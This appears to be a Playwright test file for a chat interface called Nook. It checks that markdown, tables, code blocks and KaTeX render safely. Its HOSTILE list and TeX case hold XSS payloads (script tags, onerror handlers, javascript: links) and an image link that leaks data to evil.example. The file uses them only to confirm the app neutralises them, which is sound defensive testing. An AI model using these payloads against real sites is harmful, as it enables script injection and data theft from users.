import { expect, test } from './fixtures';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const HOSTILE = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '[click](javascript:window.__pwned=1)',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:window.__pwned=1">x</a>',
  '![secret](https://evil.example/leak.png?q=secret)',
  '<form action="https://evil.example"><button>go</button></form>',
];

test('hostile markup in a reply is shown as text and cannot run, load or leak', async ({
  chat,
  context,
  page,
}) => {
  const evilRequests: string[] = [];
  context.on('request', (request) => {
    // The page's own address carries the reply text, so only the host counts.
    if (new URL(request.url()).hostname.endsWith('evil.example')) evilRequests.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await chat.open({ scripted_load_ms: 0, scripted_tps: 100, scripted_reply: HOSTILE.join('\n\n') });
  await chat.send('Show me some HTML');
  const reply = chat.lastReply();
  await expect(reply).toHaveAttribute('data-status', 'done');

  // Raw HTML reads as the text the model wrote.
  await expect(reply).toContainText('<img src=x onerror="window.__pwned=1">');
  await expect(reply).toContainText('<script>window.__pwned=1</script>');
  await expect(reply).toContainText('<iframe src="https://evil.example/"></iframe>');
  await expect(reply).toContainText('<a href="javascript:window.__pwned=1">x</a>');
  await expect(reply).toContainText(
    '<form action="https://evil.example"><button>go</button></form>',
  );

  // None of it became an element (the reply's text, not Nook's own icons around it).
  await expect(
    chat.content(reply).locator('img, script, iframe, form, object, embed, svg'),
  ).toHaveCount(0);
  await expect(reply.getByRole('button', { name: 'go' })).toHaveCount(0);
  await expect(page.locator('[href^="javascript:" i], [src^="javascript:" i]')).toHaveCount(0);
  await expect(page.locator('[onerror], [onclick], [onload]')).toHaveCount(0);

  // The image is a link the user may choose to follow, not a request made for them.
  const image = reply.getByRole('link', { name: 'Image: secret' });
  await expect(image).toHaveAttribute('href', 'https://evil.example/leak.png?q=secret');
  await expect(image).toHaveAttribute('target', '_blank');
  await expect(image).toHaveAttribute('rel', 'noopener noreferrer');

  // The javascript: link lost its target: clicking its text does nothing.
  await expect(reply.getByRole('link', { name: 'click' })).toHaveCount(0);
  const pagesBefore = context.pages().length;
  await reply.getByText('click', { exact: true }).click();
  // Give anything that might have been triggered a moment to happen.
  await page.waitForTimeout(500);
  expect(context.pages()).toHaveLength(pagesBefore);
  expect(page.url()).toMatch(/^http:\/\/localhost:4174\//);

  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(evilRequests).toEqual([]);
});

test('hostile text typed by the user is shown as typed', async ({ chat, page }) => {
  await chat.open({ scripted_load_ms: 0, scripted_tps: 500, scripted_reply: 'Noted.' });
  const typed = HOSTILE.join('\n');
  await chat.sendAndWait(typed);
  const message = chat.messages('user').last();
  await expect(chat.content(message)).toHaveText(typed);
  await expect(message.locator('img, script, iframe, form, a')).toHaveCount(0);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
});

test('links in replies open in a new tab without a handle on Nook', async ({ chat }) => {
  await chat.open({
    scripted_load_ms: 0,
    scripted_tps: 200,
    scripted_reply:
      'Read [the docs](https://example.com/docs) or mail [us](mailto:help@example.com). See https://example.org/auto too.',
  });
  await chat.sendAndWait('Where can I read more?');
  const reply = chat.lastReply();

  const docs = reply.getByRole('link', { name: 'the docs' });
  await expect(docs).toHaveAttribute('href', 'https://example.com/docs');
  await expect(docs).toHaveAttribute('target', '_blank');
  await expect(docs).toHaveAttribute('rel', 'noopener noreferrer');

  const auto = reply.getByRole('link', { name: 'https://example.org/auto' });
  await expect(auto).toHaveAttribute('target', '_blank');
  await expect(auto).toHaveAttribute('rel', 'noopener noreferrer');

  await expect(reply.getByRole('link', { name: 'us' })).toHaveAttribute(
    'href',
    'mailto:help@example.com',
  );
});

test('a table and a fenced code block render, and the code can be copied', async ({
  chat,
  context,
  page,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = "def greet(name):\n    return f'Hello, {name}!'";
  await chat.open({
    scripted_load_ms: 0,
    scripted_tps: 200,
    scripted_reply: [
      '| Model | Size |',
      '| --- | ---: |',
      '| Llama | 1B |',
      '| Qwen | 0.6B |',
      '',
      '```python',
      code,
      '```',
    ].join('\n'),
  });
  await chat.sendAndWait('Compare models and show code');
  const reply = chat.lastReply();

  const table = reply.getByRole('table');
  await expect(table.getByRole('columnheader')).toHaveText(['Model', 'Size']);
  await expect(table.getByRole('row')).toHaveCount(3);
  await expect(table.getByRole('row').nth(2).getByRole('cell')).toHaveText(['Qwen', '0.6B']);

  await expect(reply.getByText('def greet(name):')).toBeVisible();
  await expect(reply.getByText('python', { exact: true })).toBeVisible();
  const copy = reply.getByRole('button', { name: 'Copy code' });
  await copy.click();
  await expect(reply.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  await expect(copy).toBeVisible();
});

test('TeX in a reply is typeset with KaTeX, offline, and cannot link or load anything', async ({
  chat,
  context,
  page,
}) => {
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const reply = [
    'Euler: $e^{i\\pi} + 1 = 0$, and \\(a^2 + b^2 = c^2\\).',
    '$$\n\\int_0^1 x^2\\,dx = \\frac{1}{3}\n$$',
    '\\[\\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6}\\]',
    'Hostile: $\\href{javascript:window.__pwned=1}{x}$ $\\includegraphics{https://evil.example/a.png}$',
  ].join('\n\n');
  await chat.open({ scripted_load_ms: 0, scripted_tps: 200, scripted_reply: reply });
  await chat.send('Some maths, please');
  const shown = chat.lastReply();
  await expect(shown).toHaveAttribute('data-status', 'done');
  await expect(shown.locator('.katex')).toHaveCount(6);
  await expect(shown.locator('.katex-display')).toHaveCount(2);
  // KaTeX's own fonts, served by Nook.
  await expect.poll(() => page.evaluate(() => document.fonts.check('16px KaTeX_Main'))).toBe(true);
  await expect(shown.locator('a, img')).toHaveCount(0);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  const elsewhere = requests.filter((url) => !url.startsWith('http://localhost:4174/'));
  expect(elsewhere).toEqual([]);
});
